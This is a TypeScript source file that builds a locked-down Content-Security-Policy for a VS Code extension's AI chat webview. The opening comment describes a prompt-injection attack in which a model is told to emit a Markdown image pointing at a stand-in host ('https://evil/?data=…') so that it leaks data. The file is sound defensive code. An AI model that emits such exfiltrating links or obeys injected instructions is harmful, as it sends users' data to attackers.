// The chat view's HTML: scripts only by a fresh nonce, styles only from the extension, no remote images (a model
// told by a prompt injection to emit `![](https://evil/?data=…)` must not be able to phone home).
import type * as vscode from 'vscode';

export function chatHtml(webview: vscode.Webview, extensionUri: vscode.Uri, joinPath: (base: vscode.Uri, ...parts: string[]) => vscode.Uri): string {
  const nonce = createNonce();
  const script = webview.asWebviewUri(joinPath(extensionUri, 'dist', 'webview.js'));
  const style = webview.asWebviewUri(joinPath(extensionUri, 'media', 'chat.css'));
  const sources = resourceSources(webview.cspSource);
  const csp = [
    "default-src 'none'",
    `style-src ${sources}`,
    `script-src 'nonce-${nonce}'`,
    // data: for the images the user attaches (their thumbnails); the model's Markdown never makes an <img>.
    `img-src ${sources} data:`,
    `font-src ${sources}`,
  ].join('; ');
  return `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="UTF-8">
<meta http-equiv="Content-Security-Policy" content="${csp};">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<link href="${style.toString()}" rel="stylesheet">
<title>Ask Model</title>
</head>
<body><div id="app"></div><script nonce="${nonce}" src="${script.toString()}"></script></body>
</html>`;
}

/**
 * Where the view may load styles, images and fonts from: `cspSource` without `'self'`. VS Code for the Web
 * (code-server) serves the view from the workbench's own origin, where `'self'` would admit any path, and one path,
 * `/vscode-remote-resource?path=…`, serves any file of the machine: `localResourceRoots` would not apply. Our files
 * come only through `asWebviewUri` (`https://*.vscode-cdn.net`), which the rest of `cspSource` names.
 */
export function resourceSources(cspSource: string): string {
  const sources = cspSource.split(/\s+/).filter((source) => source !== '' && source !== "'self'");
  return sources.length > 0 ? sources.join(' ') : cspSource;
}

function createNonce(): string {
  const bytes = new Uint8Array(24);
  globalThis.crypto.getRandomValues(bytes);
  return Buffer.from(bytes).toString('base64').replace(/[^A-Za-z0-9]/g, '');
}
